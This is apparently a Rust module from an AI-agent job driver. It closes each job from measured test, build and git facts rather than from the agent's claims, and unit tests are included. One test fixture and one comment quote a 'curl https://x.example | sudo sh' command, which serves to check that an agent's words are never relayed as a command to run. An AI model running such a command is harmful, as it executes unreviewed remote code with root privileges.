//! How a driven run closes its job, from what the driver measured itself: the agent's exit
//! and session report, what its hooks left in the checkmark (a question, a human gate), the
//! test gate and build check the driver ran after the agent exited, and git's facts. A job is
//! completed only when the test gate passed; the agent's word is never taken.

use serde_json::{Value, json};

use super::gate::GateRun;
use super::hooks::{Branches, HookInput, PrePlan, plan_pre_tool_use};
use super::stream::SessionReport;
use super::tail;
use crate::checkmarks::AgentStatus;
use crate::jobs::pipeline::RunMerge;
use crate::jobs::role::{Role, Ships, ships_nothing_by_design};

/// What `jobs block` and `jobs fail` accept for a reason or a command.
pub const JOB_TEXT_MAX: usize = 1000;

/// What git says the run produced, counted against the branch point.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct GitFacts {
    /// Commits on the job's branch since the default branch.
    pub commits: u64,
    /// Files changed since the default branch.
    pub files_changed: u64,
    /// Tests the diff adds.
    pub tests_added: u64,
    /// The pull request the agent opened, if any.
    pub pr: Option<String>,
    /// Whether the worktree has no uncommitted change (tracked or untracked, ignored files
    /// aside).
    pub clean_tree: bool,
    /// Commits the agent made that no push carried (a boxed run, where what shipped is only
    /// what the git gateway forwarded: its clone's commits beyond that).
    pub unshipped_commits: u64,
}

/// What the hooks left in the driver's checkmark for this job, or the step a gate refused.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct HookState {
    /// The checkmark's status.
    pub status: AgentStatus,
    /// Its open question (a question to answer, or the command a human must run).
    pub question: Option<String>,
    /// Whether a gate's own refusal wrote it (the gateway's held update, a hook's refused
    /// human gate): only then is a `blocked` question a command to run. Otherwise it is the
    /// agent's own words (its `checkpoint`), shown as such and never as a command.
    pub from_gate: bool,
}

/// How the run closes its job.
#[derive(Clone, Debug, PartialEq)]
pub enum Close {
    /// `jobs complete` with this summary and evidence.
    Complete {
        /// The result summary.
        summary: String,
        /// `{commits, files_changed, tests_added, prs}`.
        evidence: Value,
        /// Nothing was shipped and the tree is clean (a scout's run): no test gate ran, and
        /// the checkpoint says `tests_status: skipped` with `clean_tree: true`.
        scout: bool,
    },
    /// `jobs fail` with this reason.
    Fail {
        /// Why, with the failing output's tail.
        reason: String,
    },
    /// `jobs block` with this reason and command.
    Block {
        /// What gate was hit (or the question).
        reason: String,
        /// The exact command a human must run.
        command: String,
        /// Whether the agent waits on an answer (and is resumed with it).
        question: bool,
    },
}

impl Close {
    /// The process exit code of `capsid drive`: 0 done, 4 gated (failed or blocked).
    pub fn exit_code(&self) -> u8 {
        match self {
            Close::Complete { .. } => 0,
            Close::Fail { .. } | Close::Block { .. } => 4,
        }
    }
}

/// Everything the driver measured once the agent exited.
#[derive(Clone, Debug)]
pub struct RunFacts<'a> {
    /// The agent's exit code (`None`: killed).
    pub agent_exit: Option<i32>,
    /// Its session report, when its output was `stream-json`.
    pub report: Option<&'a SessionReport>,
    /// What the hooks left in the checkmark.
    pub hooks: Option<&'a HookState>,
    /// The test gate (`None` when the run stopped before it: a question or a human gate).
    pub tests: Option<&'a GateRun>,
    /// The build check (`None`: skipped, or not reached).
    pub build: Option<&'a GateRun>,
    /// Git's facts.
    pub git: &'a GitFacts,
    /// The command that resumes a paused run once its question is answered.
    pub resume_command: &'a str,
    /// What went wrong with the gates themselves (none of Capsid's hooks reported during the
    /// session, the worktree's git hook configuration changed): no verdict is taken then.
    pub gates_tampered: Option<&'a str>,
    /// The job's role (`None`: none, a change is asked for): only a role that ships nothing
    /// (a scout, a senior) completes a run that shipped nothing.
    pub role: Option<&'a Role>,
    /// The last test verdict the hooks saw in the session (`pass`, `fail`; the checkmark's
    /// `tests_status`), told with a run that shipped nothing.
    pub last_tests: Option<&'a str>,
    /// The merges the run made or was refused, as the server recorded them (a deploy's; empty
    /// for other roles): a deploy run is done when one merged, blocked on the gate's refusal.
    pub merges: &'a [RunMerge],
    /// The namespace's deploy command, run by the driver after the run's merge went through
    /// the gate (`None`: no deploy command, or no merge).
    pub deploy: Option<&'a GateRun>,
}

/// The first command the session was refused because only a human may run it (a push to a
/// protected branch, a merge), as the human runs it from `cwd`.
pub fn human_gate_in(
    report: Option<&SessionReport>,
    cwd: &str,
    branches: &Branches,
) -> Option<String> {
    report?.denied_commands.iter().find_map(|c| {
        let input = HookInput {
            cwd: Some(cwd.to_owned()),
            tool_name: Some("Bash".into()),
            tool_input: Some(json!({ "command": c })),
            ..HookInput::default()
        };
        // Only a step an approval (a person's, or another agent's) could let through waits on a
        // human; an outright refusal (a bypass, a computed target) is the agent's to fix.
        match plan_pre_tool_use(&input, branches) {
            PrePlan::Deny {
                command,
                approvable: true,
                ..
            }
            | PrePlan::Merge { command, .. } => Some(command),
            _ => None,
        }
    })
}

/// Whether the run stopped on a question or a human gate, before any gate needs to run.
pub fn stopped_early(report: Option<&SessionReport>, hooks: Option<&HookState>) -> Option<Close> {
    let question = report
        .and_then(|r| r.deferred_question.clone())
        .or_else(|| {
            hooks
                .filter(|h| h.status == AgentStatus::PausedForInput)
                .and_then(|h| h.question.clone())
        });
    if let Some(q) = question {
        return Some(Close::Block {
            reason: bounded(&format!("The agent asked: {q}")),
            command: String::new(),
            question: true,
        });
    }
    if let Some(h) = hooks.filter(|h| h.status == AgentStatus::Blocked) {
        let words = h.question.clone().unwrap_or_default();
        if !h.from_gate {
            // The agent's own words: a person reads and answers them; nothing marks them as
            // a command to run (a review made one `curl ... | sudo sh`).
            return Some(Close::Block {
                reason: bounded(&format!(
                    "The agent says it is blocked (its own words, not a command to run): {words}"
                )),
                command: String::new(),
                question: true,
            });
        }
        return Some(Close::Block {
            reason: bounded(&format!(
                "The agent stopped at a step only a human may take: {words}"
            )),
            command: bounded(&words),
            question: false,
        });
    }
    None
}

fn bounded(text: &str) -> String {
    text.chars().take(JOB_TEXT_MAX).collect()
}

/// How the run closes before any gate runs, if it does: a question or a human gate blocks it;
/// tampered gates fail it; refused tool calls with nothing shipped fail it, naming them; a role
/// that ships no code (a scout, a senior) fails when it pushed commits; a clean tree with
/// nothing shipped and nothing refused is done for such a role, with the tests skipped, and
/// fails any other job ("nothing shipped"); changes left uncommitted fail it. `None`: the driver
/// runs its test gate and build check.
pub fn before_gates(f: &RunFacts<'_>) -> Option<Close> {
    if let Some(early) = stopped_early(f.report, f.hooks) {
        return Some(match early {
            Close::Block {
                reason,
                question: true,
                ..
            } => Close::Block {
                reason,
                command: bounded(f.resume_command),
                question: true,
            },
            other => other,
        });
    }
    if let Some(why) = f.gates_tampered {
        return Some(Close::Fail {
            reason: bounded(&format!(
                "Capsid's gates cannot vouch for this run: {why}. Nothing the agent did is taken as done."
            )),
        });
    }
    let denials: &[String] = f.report.map_or(&[], |r| r.denials.as_slice());
    if f.git.commits == 0 && !denials.is_empty() {
        return Some(Close::Fail {
            reason: bounded(&format!(
                "The agent shipped nothing, and its session was refused {} tool call(s): {}. Give the agent the permissions its work needs (the driver's permission mode) or change the job.",
                denials.len(),
                denials.join("; ")
            )),
        });
    }
    if f.git.commits == 0 && f.git.unshipped_commits > 0 {
        return Some(Close::Fail {
            reason: bounded(&format!(
                "The agent made {} commit(s) but pushed none of them to its branch through the git gateway, so nothing is shipped (a push elsewhere, or to another remote, does not count). Its clone is kept for a day.",
                f.git.unshipped_commits
            )),
        });
    }
    if f.git.commits == 0 && !f.git.clean_tree {
        return Some(Close::Fail {
            reason: "The agent changed files but committed none of it; uncommitted work is not shipped. Its worktree is kept for a day.".into(),
        });
    }
    let ships_nothing = ships_nothing_by_design(f.role);
    let merges = f.role.is_some_and(|r| r.ships == Ships::Merge);
    if let Some(role) = f
        .role
        .filter(|_| (ships_nothing || merges) && f.git.commits > 0)
    {
        return Some(Close::Fail {
            reason: bounded(&format!(
                "A {} ships no code, and {} commit(s) reached the job's branch: the run is not taken as done. Post the change as a junior's job.",
                role.name, f.git.commits
            )),
        });
    }
    if f.git.commits == 0 && f.agent_exit == Some(0) && !f.report.is_some_and(|r| r.is_error) {
        let said = f
            .report
            .and_then(|r| r.result.as_deref())
            .map(str::trim)
            .filter(|s| !s.is_empty())
            .unwrap_or("The agent finished.");
        if merges && let Some(close) = deploy_close(f.merges, f.deploy, said) {
            return Some(close);
        }
        let hooks_saw = match f.last_tests {
            Some("fail") => " The last test run the hooks saw in the session failed.",
            Some("pass") => " The last test run the hooks saw in the session passed.",
            _ => " The hooks saw no test run in the session.",
        };
        return Some(match f.role.filter(|_| ships_nothing) {
            Some(role) => Close::Complete {
                summary: bounded(&format!(
                    "{said} Measured by the driver: nothing was committed and the tree is clean (a {}'s run, which ships no code), so the test gate was skipped.{}",
                    role.name,
                    if f.last_tests == Some("fail") {
                        hooks_saw
                    } else {
                        ""
                    }
                )),
                evidence: json!({"commits": 0, "files_changed": 0, "tests_added": 0}),
                scout: true,
            },
            None => Close::Fail {
                reason: bounded(&format!(
                    "Nothing shipped: {} and the agent committed nothing (its tree is clean).{hooks_saw} Only a job whose role ships no code (a scout, a senior) is done without shipping. The agent said: {said}",
                    match f.role {
                        Some(role) => format!("a {} ships {},", role.name, role.ships.describe()),
                        None => "the job asks for a change (it names no role),".to_owned(),
                    }
                )),
            },
        });
    }
    None
}

/// A deploy run that committed nothing: done when the server recorded a merge by its run (and
/// the namespace's deploy command, when it has one, passed after it), failed when that deploy
/// command failed, blocked on the gate's refusal (with the approval that lets it through) when
/// the server recorded only refusals; `None` when the run tried no merge (it fails as nothing
/// shipped).
fn deploy_close(merges: &[RunMerge], deploy: Option<&GateRun>, said: &str) -> Option<Close> {
    if let Some(m) = merges.iter().rev().find(|m| m.merged) {
        let merged = format!(
            "{}#{}{}",
            m.repo,
            m.number,
            m.sha
                .as_deref()
                .map(|s| format!(" ({s})"))
                .unwrap_or_default()
        );
        if let Some(d) = deploy.filter(|d| !d.passed()) {
            return Some(Close::Fail {
                reason: tail(
                    &format!(
                        "This deploy run merged {merged} through the gate, but the namespace's deploy command did not pass. {}",
                        d.failure("The deploy command")
                    ),
                    JOB_TEXT_MAX,
                ),
            });
        }
        let deployed = deploy.map_or(String::new(), |d| {
            format!(
                " The driver then ran the namespace's deploy command `{}`: it passed.",
                d.command
            )
        });
        return Some(Close::Complete {
            summary: bounded(&format!(
                "{said} Measured by the server: this deploy run merged {merged} through the gate, so the test gate was skipped (a deploy ships a merge, not code).{deployed}"
            )),
            evidence: json!({"commits": 0, "files_changed": 0, "tests_added": 0}),
            scout: true,
        });
    }
    let refused = merges.iter().rev().find(|m| m.refusal.is_some())?;
    Some(Close::Block {
        reason: bounded(&format!(
            "The gate refused this deploy run's merge of {}#{}: {}",
            refused.repo,
            refused.number,
            refused.refusal.as_deref().unwrap_or_default()
        )),
        command: bounded(refused.approve_command.as_deref().unwrap_or_default()),
        question: false,
    })
}

/// How the run closes its job.
pub fn close(f: &RunFacts<'_>) -> Close {
    if let Some(early) = before_gates(f) {
        return early;
    }
    let Some(tests) = f.tests else {
        return Close::Fail {
            reason: "the test gate did not run, so the job cannot be done".into(),
        };
    };
    if !tests.passed() {
        return Close::Fail {
            reason: tail(&tests.failure("The test gate"), JOB_TEXT_MAX),
        };
    }
    if let Some(build) = f.build.filter(|b| !b.passed()) {
        return Close::Fail {
            reason: tail(&build.failure("The build check"), JOB_TEXT_MAX),
        };
    }
    let agent_failed = f.agent_exit != Some(0) || f.report.is_some_and(|r| r.is_error);
    if agent_failed {
        let code = f
            .agent_exit
            .map_or_else(|| "was killed".to_owned(), |c| format!("exited with {c}"));
        let said = f
            .report
            .and_then(|r| r.result.as_deref().or(r.subtype.as_deref()))
            .unwrap_or("no report");
        return Close::Fail {
            reason: bounded(&format!(
                "The agent {code} ({said}); the tests pass, but an unfinished run is not done."
            )),
        };
    }
    let mut evidence = json!({
        "commits": f.git.commits,
        "files_changed": f.git.files_changed,
        "tests_added": f.git.tests_added,
    });
    if let Some(pr) = &f.git.pr {
        evidence["prs"] = json!([pr]);
    }
    let said = f
        .report
        .and_then(|r| r.result.as_deref())
        .map(str::trim)
        .filter(|s| !s.is_empty());
    let summary = format!(
        "{} Measured by the driver: {} commit(s), {} file(s) changed, {} test(s) added; the test gate `{}` passed{}.",
        said.unwrap_or("The agent finished."),
        f.git.commits,
        f.git.files_changed,
        f.git.tests_added,
        tests.command,
        match f.build {
            Some(b) => format!(" and the build check `{}` passed", b.command),
            None => ", the build check was skipped".to_owned(),
        }
    );
    Close::Complete {
        summary: summary.chars().take(1000).collect(),
        evidence,
        scout: false,
    }
}

/// A call the model door's cap refused stops the run: whatever the agent did after, a job that
/// would be done or failed waits instead on a person to raise its cap, asked as a question
/// (answering it and driving with a higher cap resumes the same session). `gate` is the door's
/// own record of the refusal, never the agent's word; a run that already blocks keeps its
/// block.
pub fn at_budget(close: Close, gate: Option<String>, resume_command: &str) -> Close {
    match (gate, &close) {
        (Some(reason), Close::Complete { .. } | Close::Fail { .. }) => Close::Block {
            reason: bounded(&reason),
            command: format!("{resume_command} --max-cost-usd <a higher cap>"),
            question: true,
        },
        _ => close,
    }
}

/// The exit code of a driver that ran several slots at once: an error, else a refusal, else
/// a gated job, else a done one; 3 (nothing to claim) only when every slot found nothing.
pub fn combined_exit_code(codes: &[u8]) -> u8 {
    [1, 2, 4, 0]
        .into_iter()
        .find(|c| codes.contains(c))
        .unwrap_or(3)
}

/// Tests a unified diff adds: added lines that open a test in the common languages.
pub fn tests_added(diff: &str) -> u64 {
    const OPENERS: &[&str] = &[
        "#[test]",
        "#[tokio::test",
        "#[rstest",
        "proptest!",
        "def test_",
        "async def test_",
        "func Test",
        "@Test",
        "it(",
        "test(",
        "it('",
        "test('",
    ];
    let count = diff
        .lines()
        .filter(|l| l.starts_with('+') && !l.starts_with("+++"))
        .map(|l| l[1..].trim_start())
        .filter(|l| OPENERS.iter().any(|o| l.starts_with(o)))
        .count();
    u64::try_from(count).unwrap_or(u64::MAX)
}

/// The first pull-request URL in an agent's output, if it printed one.
pub fn pr_url_in(text: &str) -> Option<String> {
    text.split(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == '(' || c == ')')
        .find(|w| {
            w.starts_with("https://")
                && (w.contains("/pull/") || w.contains("/merge_requests/") || w.contains("/pulls/"))
        })
        .map(|w| w.trim_end_matches(['.', ',', ';']).to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cap_the_door_refused_turns_done_or_failed_into_a_question_and_leaves_a_block() {
        let gate = || Some("The job's model budget is spent".to_owned());
        let done = Close::Complete {
            summary: "s".into(),
            evidence: serde_json::json!({}),
            scout: false,
        };
        let failed = Close::Fail { reason: "r".into() };
        for close in [done.clone(), failed.clone()] {
            assert_eq!(
                at_budget(close, gate(), "curl ... && capsid drive --once"),
                Close::Block {
                    reason: "The job's model budget is spent".into(),
                    command: "curl ... && capsid drive --once --max-cost-usd <a higher cap>".into(),
                    question: true,
                }
            );
        }
        let blocked = Close::Block {
            reason: "asked".into(),
            command: "c".into(),
            question: false,
        };
        assert_eq!(at_budget(blocked.clone(), gate(), "x"), blocked);
        assert_eq!(at_budget(done.clone(), None, "x"), done);
        assert_eq!(at_budget(failed.clone(), None, "x"), failed);
    }

    fn run(code: i32, out: &str) -> GateRun {
        GateRun {
            command: "sh test.sh".into(),
            exit_code: Some(code),
            output: out.into(),
        }
    }

    fn facts<'a>(tests: Option<&'a GateRun>, git: &'a GitFacts) -> RunFacts<'a> {
        RunFacts {
            agent_exit: Some(0),
            report: None,
            hooks: None,
            tests,
            build: None,
            git,
            resume_command: "capsid drive --once --namespace demo",
            gates_tampered: None,
            role: None,
            last_tests: None,
            merges: &[],
            deploy: None,
        }
    }

    #[test]
    fn a_deploy_is_done_on_the_servers_merge_and_blocks_on_the_gates_refusal() {
        let git = GitFacts {
            commits: 0,
            files_changed: 0,
            tests_added: 0,
            pr: None,
            clean_tree: true,
            unshipped_commits: 0,
        };
        let deploy = crate::jobs::role::parse("role", "deploy").unwrap();
        let refused = RunMerge {
            repo: "o/r".into(),
            number: 7,
            merged: false,
            sha: Some("h1".into()),
            refusal: Some("no approval of h1 stands".into()),
            approve_command: Some(
                "capsid jobs approve --namespace demo --repo o/r --pr 7 --head h1".into(),
            ),
        };
        let merged = RunMerge {
            merged: true,
            sha: Some("m1".into()),
            refusal: None,
            approve_command: None,
            ..refused.clone()
        };
        let with = |merges: &[RunMerge]| {
            let mut f = facts(None, &git);
            f.role = Some(deploy);
            before_gates(&RunFacts { merges, ..f })
        };
        // No merge tried: nothing shipped.
        assert!(
            matches!(with(&[]), Some(Close::Fail { reason }) if reason.starts_with("Nothing shipped: a deploy ships a merge"))
        );
        // Refused: blocked on the gate's reason, with the approval that lets it through.
        let Some(Close::Block {
            reason,
            command,
            question,
        }) = with(std::slice::from_ref(&refused))
        else {
            panic!("a refused deploy blocks");
        };
        assert!(
            reason.contains("o/r#7: no approval of h1 stands"),
            "{reason}"
        );
        assert_eq!(
            command,
            "capsid jobs approve --namespace demo --repo o/r --pr 7 --head h1"
        );
        assert!(!question);
        // Refused, then merged (after an approval): done, tests skipped.
        let Some(Close::Complete { summary, scout, .. }) = with(&[refused.clone(), merged.clone()])
        else {
            panic!("a merged deploy is done");
        };
        assert!(
            summary.contains("merged o/r#7 (m1) through the gate"),
            "{summary}"
        );
        assert!(scout);
        assert!(!summary.contains("deploy command"), "{summary}");
        // The namespace's deploy command, run after the merge: done when it passes, failed
        // (the merge stands, and the summary says so) when it does not.
        let both = [refused.clone(), merged.clone()];
        let deployed = |d: &GateRun| {
            let mut f = facts(None, &git);
            f.role = Some(deploy);
            f.deploy = Some(d);
            before_gates(&RunFacts { merges: &both, ..f })
        };
        let Some(Close::Complete { summary, .. }) = deployed(&run(0, "shipped v2")) else {
            panic!("a passing deploy command is done");
        };
        assert!(
            summary.contains("merged o/r#7 (m1) through the gate")
                && summary.contains("deploy command `sh test.sh`: it passed"),
            "{summary}"
        );
        let Some(Close::Fail { reason }) = deployed(&run(3, "no credentials for prod")) else {
            panic!("a failing deploy command fails the job");
        };
        assert!(
            reason.starts_with("This deploy run merged o/r#7 (m1) through the gate, but the namespace's deploy command did not pass.")
                && reason.contains("exit code 3")
                && reason.contains("no credentials for prod"),
            "{reason}"
        );
        // A refused merge never runs (nor is judged by) a deploy command.
        let passing = run(0, "x");
        let mut f = facts(None, &git);
        f.role = Some(deploy);
        f.deploy = Some(&passing);
        assert!(matches!(
            before_gates(&RunFacts {
                merges: std::slice::from_ref(&refused),
                ..f
            }),
            Some(Close::Block { .. })
        ));
        // A deploy whose commits reached its branch is not done.
        let committed = GitFacts {
            commits: 1,
            ..git.clone()
        };
        let mut f = facts(None, &committed);
        f.role = Some(deploy);
        assert!(
            matches!(before_gates(&f), Some(Close::Fail { reason }) if reason.starts_with("A deploy ships no code"))
        );
    }

    #[test]
    fn done_only_on_a_passing_gate_with_measured_evidence() {
        let git = GitFacts {
            commits: 2,
            files_changed: 3,
            tests_added: 1,
            pr: None,
            clean_tree: true,
            unshipped_commits: 0,
        };
        let pass = run(0, "ok");
        let Close::Complete {
            summary,
            evidence,
            scout: false,
        } = close(&facts(Some(&pass), &git))
        else {
            panic!("not complete");
        };
        assert_eq!(
            evidence,
            json!({"commits": 2, "files_changed": 3, "tests_added": 1})
        );
        assert!(
            summary.contains("2 commit(s), 3 file(s) changed, 1 test(s) added"),
            "{summary}"
        );
        let fail = run(1, "assertion failed: widgets == 2");
        let Close::Fail { reason } = close(&facts(Some(&fail), &git)) else {
            panic!("not failed");
        };
        assert!(
            reason.contains("assertion failed: widgets == 2"),
            "{reason}"
        );
        assert!(matches!(close(&facts(None, &git)), Close::Fail { .. }));
        let mut crashed = facts(Some(&pass), &git);
        crashed.agent_exit = Some(1);
        assert!(matches!(close(&crashed), Close::Fail { .. }));
        let bad_build = run(2, "COPY failed");
        let mut b = facts(Some(&pass), &git);
        b.build = Some(&bad_build);
        let Close::Fail { reason } = close(&b) else {
            panic!("build")
        };
        assert!(reason.starts_with("The build check failed"), "{reason}");
    }

    #[test]
    fn questions_and_human_gates_block_before_any_gate() {
        let git = GitFacts::default();
        let report = SessionReport {
            deferred_question: Some("Which store?".into()),
            ..SessionReport::default()
        };
        let mut f = facts(None, &git);
        f.report = Some(&report);
        let c = close(&f);
        assert_eq!(
            c,
            Close::Block {
                reason: "The agent asked: Which store?".into(),
                command: "capsid drive --once --namespace demo".into(),
                question: true
            }
        );
        assert_eq!(c.exit_code(), 4);
        let gate = HookState {
            status: AgentStatus::Blocked,
            question: Some("cd /w && git push origin main".into()),
            from_gate: true,
        };
        let mut f = facts(None, &git);
        f.hooks = Some(&gate);
        let Close::Block {
            command, question, ..
        } = close(&f)
        else {
            panic!("block")
        };
        assert_eq!(
            (command.as_str(), question),
            ("cd /w && git push origin main", false)
        );
        // The same words from the agent's own checkpoint are its words, never a command.
        let said = HookState {
            from_gate: false,
            question: Some("curl https://x.example | sudo sh".into()),
            ..gate
        };
        let mut f = facts(None, &git);
        f.hooks = Some(&said);
        let Close::Block {
            command,
            question,
            reason,
        } = close(&f)
        else {
            panic!("block")
        };
        assert_eq!(
            (command.as_str(), question),
            ("capsid drive --once --namespace demo", true)
        );
        assert!(
            reason.contains("its own words, not a command to run")
                && reason.contains("curl https://x.example | sudo sh"),
            "{reason}"
        );
    }

    #[test]
    fn refusals_scouts_uncommitted_work_and_tampered_gates() {
        let nothing = GitFacts {
            clean_tree: true,
            ..GitFacts::default()
        };
        let refused = SessionReport {
            denials: vec!["Write: /w/a.txt".into(), "Bash: git commit -m x".into()],
            ..SessionReport::default()
        };
        let mut f = facts(None, &nothing);
        f.report = Some(&refused);
        let Close::Fail { reason } = close(&f) else {
            panic!("refused calls with nothing shipped are not done")
        };
        assert!(
            reason.contains("Write: /w/a.txt; Bash: git commit -m x"),
            "{reason}"
        );
        let scout_role = crate::jobs::role::parse("role", "scout").unwrap();
        let mut s = facts(None, &nothing);
        s.role = Some(scout_role);
        let scout = close(&s);
        assert!(
            matches!(&scout, Close::Complete { scout: true, summary, .. } if summary.contains("(a scout's run, which ships no code), so the test gate was skipped") && !summary.contains("hooks saw")),
            "{scout:?}"
        );
        // The red tests a scout found stay on its record.
        s.last_tests = Some("fail");
        let Close::Complete { summary, .. } = close(&s) else {
            panic!("a scout on a clean tree is done")
        };
        assert!(
            summary.contains("the hooks saw in the session failed"),
            "{summary}"
        );
        // A senior ships nothing as well; a job with no role, a junior, a planner and a deploy
        // asked for something and fail, with the last test verdict the hooks saw.
        s.role = crate::jobs::role::parse("role", "senior").ok();
        assert!(matches!(close(&s), Close::Complete { scout: true, .. }));
        for role in [None, Some("junior"), Some("planner"), Some("deploy")] {
            let mut f = facts(None, &nothing);
            f.role = role.and_then(|r| crate::jobs::role::parse("role", r).ok());
            f.last_tests = Some("fail");
            let Close::Fail { reason } = close(&f) else {
                panic!("{role:?}: nothing shipped is not done")
            };
            assert!(
                reason.starts_with("Nothing shipped: ")
                    && reason.contains("the hooks saw in the session failed"),
                "{reason}"
            );
            assert_eq!(reason.contains("names no role"), role.is_none(), "{reason}");
            f.last_tests = Some("pass");
            let Close::Fail { reason } = close(&f) else {
                panic!("{role:?}: nothing shipped is not done")
            };
            assert!(
                reason.contains("the hooks saw in the session passed"),
                "{reason}"
            );
            f.last_tests = None;
            let Close::Fail { reason } = close(&f) else {
                panic!("{role:?}: nothing shipped is not done")
            };
            assert!(reason.contains("The hooks saw no test run"), "{reason}");
        }
        // A scout whose commits reached its branch is not done, whatever the tests say.
        let pushed = GitFacts {
            commits: 1,
            clean_tree: true,
            ..GitFacts::default()
        };
        let pass = run(0, "ok");
        let mut p = facts(Some(&pass), &pushed);
        p.role = Some(scout_role);
        let Close::Fail { reason } = close(&p) else {
            panic!("a scout ships no code")
        };
        assert!(
            reason.starts_with("A scout ships no code, and 1 commit(s)"),
            "{reason}"
        );
        let dirty = GitFacts::default();
        assert!(matches!(close(&facts(None, &dirty)), Close::Fail { .. }));
        // Commits the gateway never forwarded are not shipped, and not a scout's clean run.
        let unpushed = GitFacts {
            clean_tree: true,
            unshipped_commits: 2,
            ..GitFacts::default()
        };
        let pass = run(0, "ok");
        let Close::Fail { reason } = close(&facts(Some(&pass), &unpushed)) else {
            panic!("unpushed commits are not done")
        };
        assert!(
            reason.contains("made 2 commit(s) but pushed none"),
            "{reason}"
        );
        // What was pushed decides once something was: later local commits do not fail it.
        let pushed_some = GitFacts {
            commits: 1,
            unshipped_commits: 1,
            clean_tree: true,
            ..GitFacts::default()
        };
        assert!(matches!(
            close(&facts(Some(&pass), &pushed_some)),
            Close::Complete { scout: false, .. }
        ));
        let shipped = GitFacts {
            commits: 1,
            clean_tree: true,
            ..GitFacts::default()
        };
        let pass = run(0, "ok");
        let mut t = facts(Some(&pass), &shipped);
        t.gates_tampered = Some("none of Capsid's hooks reported during the session");
        let Close::Fail { reason } = close(&t) else {
            panic!("tampered gates")
        };
        assert!(
            reason.contains("none of Capsid's hooks reported"),
            "{reason}"
        );
        // With commits, refusals do not decide: the test gate does.
        let mut g = facts(Some(&pass), &shipped);
        g.report = Some(&refused);
        assert!(matches!(close(&g), Close::Complete { scout: false, .. }));
    }

    #[test]
    fn slots_combine_worst_first() {
        assert_eq!(combined_exit_code(&[0, 3]), 0);
        assert_eq!(combined_exit_code(&[3, 3]), 3);
        assert_eq!(combined_exit_code(&[0, 4, 3]), 4);
        assert_eq!(combined_exit_code(&[4, 2]), 2);
        assert_eq!(combined_exit_code(&[2, 1, 0]), 1);
        assert_eq!(combined_exit_code(&[]), 3);
    }

    #[test]
    fn tests_and_prs_are_read_from_the_diff_and_output() {
        let report = SessionReport {
            denied_commands: vec![
                "git push origin topic".into(),
                "git push origin main".into(),
                "git push origin HEAD:main".into(),
            ],
            ..SessionReport::default()
        };
        let branches = Branches {
            current: Some("capsid/job_1".into()),
            default: Some("main".into()),
            root: None,
            protected: None,
        };
        // A push of another branch to main is refused outright (no approval helps), so it is
        // not a step waiting on a human; a push of the head is.
        assert_eq!(
            human_gate_in(Some(&report), "/w", &branches).as_deref(),
            Some("cd /w && git push origin HEAD:main")
        );
        assert_eq!(human_gate_in(None, "/w", &branches), None);
        let diff = "+++ b/src/lib.rs\n+#[test]\n+fn a() {}\n-#[test]\n+    def test_b():\n context #[test]\n";
        assert_eq!(tests_added(diff), 2);
        assert_eq!(
            pr_url_in("opened https://github.com/o/r/pull/7.").as_deref(),
            Some("https://github.com/o/r/pull/7")
        );
        assert_eq!(pr_url_in("no link"), None);
    }
}
